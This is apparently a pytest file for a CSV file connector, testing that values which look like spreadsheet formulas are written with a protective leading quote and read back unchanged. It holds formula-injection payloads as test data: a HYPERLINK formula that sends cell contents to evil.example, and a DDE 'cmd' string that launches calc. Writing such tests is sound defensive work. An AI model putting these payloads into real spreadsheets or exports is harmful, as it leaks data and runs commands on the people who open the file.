"""Text from outside written to a CSV file is never a spreadsheet formula: a bot called the
opt-in template with `consumer_id` `=HYPERLINK(...)`, and the opt-ins file, opened in Excel
or LibreOffice as a brand reads it, ran it (other rows' phones sent to its author). Written
with a `'` before it, it reads back through the connection as it was given."""

from __future__ import annotations

import csv
from pathlib import Path

import pytest

from lpstudio.registry import get_connector
from lpstudio.studio import Studio
from tests.servers import serving
from tests.test_connectors_generic import connect

get_connector("csv_file")  # loads the bundled connectors' package
from lpstudio_connectors.csv_file.files import as_given, neutral  # noqa: E402

__all__ = ["connect"]  # a fixture shared with those tests' module

FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"click")'


def test_a_bot_s_formula_is_written_as_text_and_its_retry_finds_its_row(ws: Path) -> None:
    with Studio.open(ws, user="alice") as studio:
        studio.try_template("cb_optin", "bots")
        studio.connections.add("optins", "csv_file", {"path": "data/optins.csv"}, "alice")
        studio.start("bots/cb_optin.ipynb")
    optin = {"phone": "+14155550188", "channel": "sms", "opt_in": True}
    with serving(ws) as served:
        token = {"API-TOKEN": served.client_token()}
        answers = [
            served.api("bot", "POST", "/call/optin", headers=token, json=body)
            for body in (
                {**optin, "consumer_id": FORMULA, "source": "-2+3+cmd|' /C calc'!A0"},
                {**optin, "consumer_id": "-1,234.50", "source": "\tsms"},
                {**optin, "consumer_id": FORMULA},  # a retry: answered as before
            )
        ]
    for answer in answers:
        assert answer.status_code == 200, answer.text
    first, _, retry = (answer.json() for answer in answers)
    assert first["consumer_id"] == FORMULA and first["row"] == 1, first
    assert retry == first, retry
    with (ws / "data" / "optins.csv").open(newline="", encoding="utf-8") as handle:
        rows = list(csv.DictReader(handle))
    assert len(rows) == 2, rows
    assert rows[0]["consumer_id"] == "'" + FORMULA
    assert rows[0]["source"] == "'-2+3+cmd|' /C calc'!A0"
    # A phone and a number-like value stay as they are: the opt-in list keeps its phones,
    # and every other reader of the file (pandas, a CRM import) gets them unchanged.
    assert rows[0]["phone"] == rows[1]["phone"] == "+14155550188"
    assert rows[1]["consumer_id"] == "-1,234.50" and rows[1]["source"] == "'\tsms"


#: (value appended, the cell written for it). A spreadsheet runs a cell that starts with =,
#: @, a tab or a CR, or with + or - and more than a number-like rest (digits, blanks, and
#: `. , : / ( ) + -`, then an exponent after a digit): such a cell gets a `'` before it,
#: after any `'`s of its own. Everything else is written as it is.
GUARDED = [
    *("=1+1", "=", "@SUM(A1)", "@x", "@", "\t=1", "\tx", "\t", "\r=1", "\r"),
    *("-x", "- call back", "-2+3+cmd|' /C calc'!A0", '+HYPERLINK("http://e")', "-A1"),
    # An exponent only at the end, after a digit, with one sign at most and a digit.
    *("+e5", "-E5", "+1.e5", "+(1)e5", "-1e", "-1e+", "+1e+-5", "+1e5e5", "+1e5 ", "+1e5.0"),
    # Blanks are a space and the no-break ones: a tab or a line break is more.
    *("+1\t415", "-1\n", "-1\r"),
    # Digits are ASCII ones: others a spreadsheet does not read as a number.
    *("+\u0661\u0662\u0663", "-\uff11"),
    *("+1 415 555 0188 ext. 2", "-1,234.50 EUR", "+02:00Z", "-1;2", "-1_000", "+1%"),
]
NOT_GUARDED = [
    *("", " ", "   ", "it's", "1e3", "a=1", " =1", "\n=1", "x\t", "'", "''"),
    *("+", "-", "--", "+-", "+-+-", "-.", "-()", "-/"),
    *("+1e5", "-1.5E-3", "-1E+10", "+2e0", "+1.5e05"),
    *("+14155550188", "+1 415 555 0188", "+1 (415) 555-0188", "+1\u00a0415", "-1\u202f234"),
    *("-3.5", "-1,234.50", "-3,5", "+02:00", "+1/2", "-1+1", "-2+3"),
    # Not the ASCII signs: a spreadsheet takes them for text.
    *("\u22121", "\u2212=1", "\uff0b1", "\uff1d1"),
    # A `'` before a number-like value is the value's own: it stays, and reads back.
    *("'-3.5", "'+1 415", "'-"),
]
WRITTEN = [
    *(("'" + value, value) for value in GUARDED),
    *((value, value) for value in NOT_GUARDED),
    # A value that starts with `'`s and a formula gets one more, and reads back as given.
    *(("''=1+1", "'=1+1"), ("'''=x", "''=x"), ("''-x", "'-x"), ("''\tx", "'\tx")),
]


@pytest.mark.parametrize(("written", "value"), WRITTEN, ids=repr)
def test_a_value_is_written_guarded_only_when_a_spreadsheet_would_run_it(
    written: str, value: str
) -> None:
    assert neutral(value) == written
    assert as_given(written) == value


def test_every_value_of_the_table_reads_back_through_the_connection_as_appended(
    tmp_path: Path, connect
) -> None:
    conn = connect("csv_file", {"path": "f.csv", "root": str(tmp_path)})
    values = [value for _, value in WRITTEN]
    for value in values:
        conn.append_row(row={"v": value, "n": "1"})
    with (tmp_path / "f.csv").open(newline="", encoding="utf-8") as handle:
        cells = [row[0] for row in csv.reader(handle)]
    assert cells == ["v", *(written for written, _ in WRITTEN)]
    assert conn.read_rows()["v"].tolist() == values
    assert [event["v"] for event in conn.poll("new_rows", "", None).events] == values


def test_a_dry_run_shows_each_cell_as_the_file_gets_it(tmp_path: Path, connect) -> None:
    # It showed `=HYPERLINK(...)` where the file got `'=HYPERLINK(...)`: checking a dry run,
    # one saw a formula written as it was given.
    config = {"path": "optins.csv", "root": str(tmp_path)}
    dry, real = connect("csv_file", config, dry_run=True), connect("csv_file", config)
    row = {"consumer_id": FORMULA, "phone": "+14155550188", "note": "'=x"}
    shown = []
    for _ in range(2):  # a new file, then one with its header
        shown.append(dry.append_row(row=row)["would_append"])
        real.append_row(row=row)
    assert shown[0] == {"consumer_id": "'" + FORMULA, "phone": "+14155550188", "note": "''=x"}
    with (tmp_path / "optins.csv").open(newline="", encoding="utf-8") as handle:
        assert list(csv.DictReader(handle)) == shown
